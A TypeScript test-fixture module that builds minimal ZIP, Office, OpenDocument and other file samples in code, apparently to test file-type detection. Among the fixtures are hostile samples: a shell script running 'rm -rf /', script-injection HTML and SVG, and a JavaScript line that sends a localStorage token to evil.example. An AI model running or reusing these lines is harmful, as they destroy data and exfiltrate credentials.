/** A minimal ZIP writer (STORED entries only), enough to build Office and OpenDocument fixtures in tests. */
export function storedZip(entries: Array<{ name: string; data: string | Buffer }>, comment = ''): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    const data = typeof entry.data === 'string' ? Buffer.from(entry.data, 'utf8') : entry.data;
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // names are UTF-8
    local.writeUInt16LE(0, 8); // stored
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const commentBytes = Buffer.from(comment, 'latin1');
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  end.writeUInt16LE(commentBytes.length, 20);
  return Buffer.concat([...locals, directory, end, commentBytes]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) crc = CRC_TABLE[(crc ^ byte) & 0xff] ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

const CONTENT_TYPES = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

/** The skeleton of an Office Open XML package: `[Content_Types].xml` plus the given parts. */
export function ooxml(partNames: string[]): Buffer {
  return storedZip([{ name: '[Content_Types].xml', data: CONTENT_TYPES }, { name: '_rels/.rels', data: '<Relationships/>' }, ...partNames.map((name) => ({ name, data: '<x/>' }))]);
}

export const docx = () => ooxml(['word/document.xml', 'word/styles.xml']);
export const xlsx = () => ooxml(['xl/workbook.xml', 'xl/worksheets/sheet1.xml']);
export const pptx = () => ooxml(['ppt/presentation.xml', 'ppt/slides/slide1.xml']);
export const docm = () => ooxml(['word/document.xml', 'word/vbaProject.bin']);

/** An OpenDocument package: `mimetype` first and stored, as the format requires. */
export function odf(mimetype: string, extra: string[] = []): Buffer {
  return storedZip([{ name: 'mimetype', data: mimetype }, { name: 'META-INF/manifest.xml', data: '<manifest/>' }, { name: 'content.xml', data: '<office/>' }, ...extra.map((name) => ({ name, data: 'x' }))]);
}

/** Small but real-looking files of each kind, built in code. */
export const FIXTURES = {
  pdf: () => Buffer.from('%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n', 'latin1'),
  png: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00', 'latin1')]),
  jpeg: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]),
  gif: () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'),
  webp: () => Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x1a, 0, 0, 0]), Buffer.from('WEBPVP8 '), Buffer.alloc(14)]),
  tiffLE: () => Buffer.from([0x49, 0x49, 0x2a, 0x00, 0x08, 0, 0, 0, 0, 0]),
  tiffBE: () => Buffer.from([0x4d, 0x4d, 0x00, 0x2a, 0, 0, 0, 8, 0, 0]),
  rtf: () => Buffer.from('{\\rtf1\\ansi Hello}', 'latin1'),
  ole: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]),
  text: () => Buffer.from('Minutes of the meeting with the council, 3 October 2026.\nThey said the grant would end — with no notice.\n', 'utf8'),
  csv: () => Buffer.from('date,amount\n2026-10-01,1500\n', 'utf8'),
  exe: () => Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(60), Buffer.from('PE\x00\x00', 'latin1')]),
  elf: () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]),
  machO: () => Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
  javaClass: () => Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
  shell: () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
  html: () => Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'),
  svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  javascript: () => Buffer.from("const token = localStorage.getItem('t');\nfetch('https://evil.example/?' + token);\n"),
  zip: () => storedZip([{ name: 'notes.txt', data: 'hello' }]),
};
